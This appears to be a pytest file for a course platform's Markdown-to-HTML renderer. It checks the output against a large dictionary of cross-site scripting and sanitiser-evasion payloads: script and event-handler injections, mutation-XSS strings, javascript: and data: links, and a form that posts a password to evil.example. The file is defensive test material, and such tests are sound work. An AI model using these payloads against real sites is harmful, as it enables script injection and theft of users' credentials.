"""What is published about getting a script past a sanitiser, in our own words: each line is one idea.

Sources of the ideas: the OWASP cheat sheet on filter evasion, the html5sec collection, the mutation attacks on
DOMPurify and bleach (2019 to 2024). After rendering nothing may be left that a browser would run or fetch from
a place that we do not allow, whoever parses it.
"""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from advocert_courses.errors import MarkdownRefusedError
from advocert_courses.html import render_html, render_inline
from advocert_courses.html.allowed import IMAGE, LINK, TAGS

VECTORS = {
    "plain script": "<script>alert(1)</script>",
    "script in odd case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "unclosed script": "<script src=//evil.example/x.js",
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image with error handler": "<img src=x onerror=alert(1)>",
    "image without quotes or space": "<img/src=x/onerror=alert(1)>",
    "svg with onload": "<svg onload=alert(1)>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg use of data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "math with link": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "mutation by math and style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by comment": "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by template": "<template><img src=x onerror=alert(1)></template>",
    "iframe with script": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe with srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": '<object data="data:text/html,x"></object><embed src="x.swf">',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link to style": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style element": "<style>*{background:url(https://evil.example)}</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "form that steals": '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "button with formaction": '<button formaction="javascript:alert(1)">x</button>',
    "details with toggle": "<details open ontoggle=alert(1)>x</details>",
    "video with source": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "body": "<body onload=alert(1)>",
    "input with focus": "<input autofocus onfocus=alert(1)>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "link by javascript": "[x](javascript:alert(1))",
    "link in odd case": "[x](JaVaScRiPt:alert(1))",
    "link with a tab": "[x](java\tscript:alert(1))",
    "link with a newline": "[x](java\nscript:alert(1))",
    "link with entity": "[x](java&#115;cript:alert(1))",
    "link with colon entity": "[x](javascript&colon;alert(1))",
    "link with leading space": "[x]( \x01javascript:alert(1))",
    "link by vbscript": "[x](vbscript:msgbox(1))",
    "link by data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link by file": "[x](file:///etc/passwd)",
    "link in angle brackets": "[x](<javascript:alert(1)>)",
    "link without scheme": "[x](//evil.example)",
    "link with quotes that end the attribute": '[x](https://a.example/"onmouseover="alert(1))',
    "link title with handler": "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "autolink": "<javascript:alert(1)>",
    "reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "image by data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image by http": "![x](http://evil.example/pixel.gif)",
    "image text with handler": '![x" onerror="alert(1)](https://a.example/x.png)',
    "image in a link": "[![x](javascript:alert(1))](javascript:alert(1))",
    "code with markup": "`<script>alert(1)</script>`",
    "fence with markup": "```html\n<script>alert(1)</script>\n```",
    "table with markup": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "highlight with markup": "==<img src=x onerror=alert(1)>==",
    "attribute list": "x{: onclick=alert(1)}",
    "null in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "wide letters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "placeholders of the converter": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "entity of a bracket": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "doubly escaped": "&amp;lt;script&amp;gt;",
}


class _Browser(HTMLParser):
    """Reads HTML as a browser does, and notes what it would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            if (tag, name) not in {
                ("a", "href"),
                ("a", "rel"),
                ("img", "src"),
                ("img", "alt"),
                ("ol", "start"),
            }:
                self.bad.append(f"{tag} {name}")
            if name == "href" and not LINK.match(value or ""):
                self.bad.append(f"{value}")
            if name == "src" and not IMAGE.match(value or ""):
                self.bad.append(f"{value}")

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"comment {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def bad(html: str) -> list[str]:
    browser = _Browser()
    browser.feed(html)
    browser.close()
    return browser.bad


@pytest.mark.parametrize("render", [render_html, render_inline])
@pytest.mark.parametrize("name", list(VECTORS))
def test_nothing_is_left_that_a_browser_would_act_on(name: str, render):
    try:
        html = render(VECTORS[name])
    except MarkdownRefusedError:
        return
    assert bad(html) == []


@pytest.mark.parametrize("name", list(VECTORS))
def test_rendering_what_was_rendered_finds_nothing_new(name: str):
    """A page that is saved and shown again must not become dangerous the second time."""
    try:
        html = render_html(render_html(VECTORS[name]))
    except MarkdownRefusedError:
        return
    assert bad(html) == []


@pytest.mark.parametrize("wrap", ["> {}", "- {}", "1. {}", "## {}", "**{}**", "|a|\n|-|\n|{}|"])
@pytest.mark.parametrize(
    "name", ["plain script", "image with error handler", "link by javascript", "link with entity"]
)
def test_no_place_of_a_text_is_safer_than_another(name: str, wrap: str):
    assert bad(render_html(wrap.format(VECTORS[name]))) == []


def test_every_allowed_tag_is_documented():
    text = (Path(__file__).parents[3] / "docs/reference/format.md").read_text()
    assert not [tag for tag in TAGS if not re.search(rf"`{tag}`", text)]
